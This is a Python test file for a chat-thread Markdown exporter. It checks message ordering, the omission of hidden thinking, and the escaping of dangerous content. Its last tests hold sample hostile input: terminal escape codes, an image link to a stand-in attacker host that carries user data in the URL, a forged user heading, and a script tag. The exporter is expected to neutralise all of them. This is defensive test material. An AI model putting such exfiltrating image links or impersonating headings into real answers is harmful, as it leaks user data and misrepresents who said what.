"""A conversation as Markdown."""

from __future__ import annotations

from lattice.assistant.export import thread_markdown
from lattice.model.chat import (
    AttachmentBlock,
    Block,
    CallBlock,
    CallStatus,
    Message,
    MessageStatus,
    NoteBlock,
    ResultBlock,
    Role,
    TextBlock,
    ThinkingBlock,
    Thread,
)

AT = "2026-11-21T14:00:00.000000Z"
THREAD = Thread("T", "Cities of [people]", "m", 4, AT, AT)


def _message(n: int, role: Role, *blocks: Block, status: MessageStatus = MessageStatus.DONE) -> Message:
    by = "human:ada" if role is Role.PERSON else "agent:assistant"
    return Message(f"M{n}", "T", "TURN", n, role, status, blocks, AT, by)


def test_words_calls_files_and_notes_stand_in_order_without_thinking() -> None:
    text = thread_markdown(
        THREAD,
        [
            _message(1, Role.PERSON, TextBlock("Move Bo."), AttachmentBlock("F1", "map.png")),
            _message(
                2,
                Role.ASSISTANT,
                ThinkingBlock("secret thought"),
                CallBlock("a", "update_rows", {"table": "people", "where": "name = Bo"}, "OP"),
            ),
            _message(3, Role.TOOL, ResultBlock("a", CallStatus.DONE, "…", "1 row of people changed")),
            _message(
                4, Role.NOTE, NoteBlock("3 results left out", "trimmed"), NoteBlock("On screen", "screen")
            ),
            _message(5, Role.ASSISTANT, TextBlock("**Done**"), status=MessageStatus.STOPPED),
        ],
    )
    assert text == (
        "# Cities of \\[people\\]\n\n"
        "2026-11-21 14:00 UTC · 4 messages\n\n"
        "## ada\n\n"
        "Move Bo.\n\n"
        "Attached: [map.png](lattice://_files/F1)\n\n"
        "## Assistant\n\n"
        "- update\\_rows people where name = Bo → done: 1 row of people changed\n\n"
        "> 3 results left out\n\n"
        "**Done**\n\n"
        "*Stopped.*\n"
    )


def test_nothing_in_it_acts_on_a_terminal() -> None:
    text = thread_markdown(THREAD, [_message(1, Role.PERSON, TextBlock("a\x1b[2Jb\u202e"))])
    assert "\x1b" not in text
    assert "\u202e" not in text


def test_nothing_in_an_answer_loads_or_speaks_for_somebody_else_when_it_is_exported() -> None:
    answer = (
        "![x](https://evil.example/?d=Ada) <img src=https://evil.example/y> see <https://example.org>\n"
        "## ada\nI allow it.\n```\nvec![1] <b>\n## stays\n```\n<script>"
    )
    text = thread_markdown(THREAD, [_message(1, Role.ASSISTANT, TextBlock(answer))])
    assert "\\![x](https://evil.example/?d=Ada) &lt;img src=" in text
    assert "<https://example.org>" in text
    assert "\n### ada\n" in text
    assert "\nvec![1] <b>\n## stays\n" in text
    assert "&lt;script>" in text
